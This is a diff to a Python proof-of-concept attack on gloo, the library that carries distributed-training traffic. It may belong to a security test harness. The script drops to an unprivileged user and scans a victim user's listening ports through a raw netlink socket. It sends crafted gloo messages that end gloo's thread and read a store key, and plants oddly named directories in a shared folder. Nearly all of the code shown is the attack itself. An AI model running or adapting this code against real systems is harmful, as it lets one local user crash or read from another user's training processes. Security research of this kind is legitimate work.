@@ -21,6 +21,7 @@ from pathlib import Path
 
 USER = 65534
 PAIRS = 4
+LISTEN = 10
 OPERATIONS = struct.pack("<6Q", 48, 1, 0, 0, 8, 0)
 """What gloo sends ahead of a tensor: nbytes, opcode, slot, offset, length, roffset. Unexpected, it ends gloo's
 thread."""
@@ -28,8 +29,20 @@ READS_A_KEY = b"\x00\x3c\x85\xf7\xce" + b"\x02" + struct.pack("<Q", 4) + b"/key"
 
 
 def listening(victim: int) -> set[int]:
-    rows = [line.split() for line in Path("/proc/net/tcp").read_text().splitlines()[1:]]
-    return {int(row[1].split(":")[1], 16) for row in rows if row[3] == "0A" and int(row[7]) == victim}
+    """The ports on which the user VICTIM listens, from sock_diag(7): /proc/net/tcp takes 30 ms, ranks connect in 5."""
+    request = struct.pack("=BBBxI48x", socket.AF_INET, socket.IPPROTO_TCP, 0, 1 << LISTEN)
+    found = set()
+    with socket.socket(socket.AF_NETLINK, socket.SOCK_DGRAM, 4) as kernel:
+        kernel.send(struct.pack("=IHHII", 16 + len(request), 20, 0x301, 0, 0) + request)
+        while True:
+            answer = kernel.recv(1 << 16)
+            while answer:
+                length, kind = struct.unpack_from("=IH", answer)
+                if kind != 20:
+                    return found
+                if struct.unpack_from("=I", answer, 80)[0] == victim:
+                    found.add(struct.unpack_from("!H", answer, 20)[0])
+                answer = answer[length:]
 
 
 def connect(port: int, words: bytes) -> socket.socket | None:
@@ -60,11 +73,12 @@ def main(victim: int, only: set[int], folder: str) -> None:
     os.setgroups([])
     os.setgid(USER)
     os.setuid(USER)
-    print("ready", flush=True)
+    print(json.dumps("ready"), flush=True)
     sys.stdin.readline()
     for name in ("²-x", "4294967296-x", "1-x"):
         with contextlib.suppress(OSError):
             Path(folder, f"rankbook-{victim}-{name}").mkdir()
+    print(json.dumps("attacking"), flush=True)
     connections: dict[int, list[socket.socket]] = {}
     attempts, received = 0, b""
     readable: set[str] = set()
